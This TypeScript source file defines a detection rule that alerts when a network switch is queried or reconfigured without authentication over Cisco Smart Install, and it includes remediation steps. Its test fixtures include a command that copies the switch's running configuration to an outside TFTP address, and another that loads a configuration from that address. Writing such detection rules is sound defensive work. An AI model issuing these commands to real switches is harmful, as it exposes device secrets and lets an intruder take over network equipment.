import { defineRule } from '#model/rule'

const asked = (
  name: string,
  code: string,
  verb: 'execute' | 'identify' | 'configure' | 'report',
  object?: string,
) =>
  ({
    protocol: 'smart-install',
    serverPort: 4786,
    fact: { kind: 'operation', verb, name, code, object, outcome: 'asked' },
  }) as const
const commands = asked('Run commands', '8', 'execute', 'copy system:running-config tftp://10.0.0.66/x')
const version = asked('Ask version', '4', 'identify')
const configuration = asked('Load configuration', '3', 'configure', 'tftp://10.0.0.66/my.conf')

const reported = asked('Report 3', '3', 'report')

export const rule = defineRule({
  id: 'switch-set-up-remotely',
  engine: 'malware',
  title: 'A switch is taken over by Cisco Smart Install',
  category: 'Suspicion of Malicious Activity',
  severity: 'critical',
  techniques: ['T0866', 'T0889'],
  counterpart: ['Suspicion of Malicious Activity'],
  learnable: true,
  whileLearning: 'alert',
  why: 'Smart Install asks for no password: whoever reaches the port gets the configuration of the switch with its secrets, or gives it another. It is how network gear of power plants was taken over.',
  todo: [
    'Look for what the switch sent by TFTP right afterwards, and to whom',
    'Compare its configuration with the backup, and change all secrets in it',
    'Switch Smart Install off (no vstack), or filter port 4786',
  ],
  falsePositives: 'A Smart Install director that sets up new switches; learn it.',
  watches: 'operation',
  concerns: { protocols: ['smart-install'], outcomes: ['asked'] },
  evaluate({ fact, protocol }, known) {
    if (protocol !== 'smart-install' || fact.kind !== 'operation' || fact.outcome !== 'asked')
      return undefined
    if (fact.verb === 'report' || (!known.isLearning && known.isUsual())) return undefined
    const isQuestion = fact.verb === 'identify'
    const what = `${fact.name}${fact.object === undefined ? '' : `: ${fact.object}`}`
    return {
      // What a director does as well; nobody but an attacker has a switch run commands.
      severity: isQuestion ? 'minor' : fact.verb === 'execute' ? undefined : 'major',
      techniques: isQuestion ? ['T0888'] : undefined,
      summary: `${known.nameOf('client')} ${isQuestion ? 'looks whether' : 'sets up'} the switch ${known.nameOf('server')}${isQuestion ? ' can be set up without a password' : ' without a password'} (Smart Install, ${what})`,
      subject: isQuestion ? 'question' : 'order',
    }
  },
  examples: {
    fires: [
      { when: 'commands are run', facts: [commands] },
      { when: 'a configuration is loaded', facts: [configuration], severity: 'major' },
      { when: 'somebody looks whether it could be done', facts: [version], severity: 'minor' },
    ],
    silent: [
      { when: 'a director does as ever', learned: [configuration], facts: [configuration] },
      { when: 'a switch reports to its director', facts: [reported] },
    ],
  },
})
